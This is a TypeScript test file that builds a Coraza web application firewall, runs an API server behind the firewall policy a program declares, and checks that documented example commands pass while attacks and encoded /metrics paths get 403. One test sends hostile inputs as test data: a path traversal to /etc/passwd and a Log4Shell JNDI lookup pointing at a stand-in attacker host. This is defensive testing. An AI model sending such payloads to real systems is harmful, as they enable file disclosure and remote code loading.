/**
 * Shows that what the README and the guide show passes a firewall with the exceptions that the program declares, and that
 * attacks and /metrics don't. OWASP's rules in Coraza stand for Microsoft's, which are made from an older version of them.
 *
 * Can't show what Microsoft changed in its rules, and nothing of its rules on bots.
 */
import { execFileSync, spawn } from "node:child_process";
import { get } from "node:http";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { isProperties, type RecordedResource } from "@sorted/infra-check";
import { consoleExamples, root, temporaryFolder } from "@sorted/testbed";
import { type Test, test } from "tap";
import { configurations, one, record } from "../test/configurations.ts";
import { directivesOf } from "./firewall/directives.ts";

const firewall = join(temporaryFolder(), "firewall");
execFileSync("go", ["build", "-mod=readonly", "-o", firewall, "."], {
  cwd: fileURLToPath(new URL("firewall", import.meta.url)),
  stdio: ["ignore", "inherit", "inherit"],
});

/** Starts a program and returns what its output says first of a pattern. */
async function started(t: Test, command: readonly [string, ...string[]], pattern: RegExp): Promise<string> {
  const [program, ...parameters] = command;
  const child = spawn(program, parameters, {
    stdio: ["ignore", "pipe", "inherit"],
    env: { ...process.env, PORT: "0", HOST: "127.0.0.1" },
  });
  t.teardown(() => child.kill());
  let output = "";
  return new Promise((resolve, reject) => {
    child.stdout.on("data", (chunk) => {
      output += chunk;
      const [, found] = pattern.exec(output) ?? [];
      if (found !== undefined) resolve(found);
    });
    child.once("exit", () => reject(new Error(`${program} ended: ${output}`)));
  });
}

/** The policy that the program declares. */
async function policyWith(settings: Readonly<Record<string, unknown>> = {}): Promise<RecordedResource> {
  const program = await record({ ...configurations.applicationGateway, ...settings });
  return one(program, "network:WebApplicationFirewallPolicy");
}

/** Where a service answers behind a firewall with that policy. */
async function behind(t: Test, policy: RecordedResource): Promise<string> {
  const server = join(root, "packages/api/src/server.ts");
  const service = await started(t, [process.execPath, server], /listening at (http:[^"]+)/);
  const port = await started(t, [firewall, directivesOf(policy), service], /port (\d+)/);
  return `localhost:${port}`;
}

/** The commands of both documents that print something else behind the firewall. Headers' names are not compared by case. */
function refused(address: string): readonly string[] {
  return ["README.md", "docs/guide.md"]
    .flatMap(consoleExamples)
    .filter(({ command, output }) => {
      const printed = execFileSync("sh", ["-c", command.replaceAll("localhost:3000", address)], {
        encoding: "utf8",
      });
      return printed.trimEnd().toLowerCase() !== output.trimEnd().toLowerCase();
    })
    .map(({ command }) => command);
}

/** The status that `curl` with these arguments gets. */
function status(...parameters: readonly string[]): string {
  return execFileSync(
    "curl",
    ["-s", "-o", "/dev/null", "-w", "%{http_code}", "--path-as-is", ...parameters],
    {
      encoding: "utf8",
    },
  );
}

test("every command of the README and the guide passes the firewall", async (t) => {
  t.strictSame(refused(await behind(t, await policyWith())), []);
});

test("without the exceptions many would be refused: the check sees it", async (t) => {
  const policy = await policyWith();
  const { managedRules, policySettings } = policy.inputs;
  const inputs = {
    ...policy.inputs,
    policySettings: { ...(isProperties(policySettings) && policySettings), requestBodyCheck: true },
    managedRules: { ...(isProperties(managedRules) && managedRules), managedRuleSets: [], exclusions: [] },
  };
  t.ok(refused(await behind(t, { ...policy, inputs })).length > 10);
});

test("a program without User-Agent and Accept passes", async (t) => {
  const address = await behind(t, await policyWith());
  const answer = await new Promise((resolve, reject) => {
    get(`http://${address}/?x1=3&x2=%5B1,2%5D`, ({ statusCode }) => resolve(statusCode)).on("error", reject);
  });
  t.equal(answer, 200);
});

test("attacks in the path and in headers don't pass", async (t) => {
  const address = await behind(t, await policyWith());
  t.equal(status(`http://${address}/?x1=1`), "200");
  t.equal(status(`http://${address}/..%2f..%2fetc/passwd`), "403");
  const lookup = ["$", "{jndi:ldap://attacker.example/a}"].join("");
  t.equal(status("-A", lookup, `http://${address}/?x1=1`), "403");
});

test("/metrics does not pass, however it is written, unless publicMetrics is true", async (t) => {
  const closed = await behind(t, await policyWith());
  for (const path of ["/metrics", "/metrics?x", "/%6Detrics", "/m%65trics"]) {
    t.equal(status(`http://${closed}${path}`), "403", path);
  }
  t.equal(status("--request-target", `http://${closed}/metrics`, `http://${closed}/`), "403");
  t.equal(status(`http://${await behind(t, await policyWith({ publicMetrics: true }))}/metrics`), "200");
});
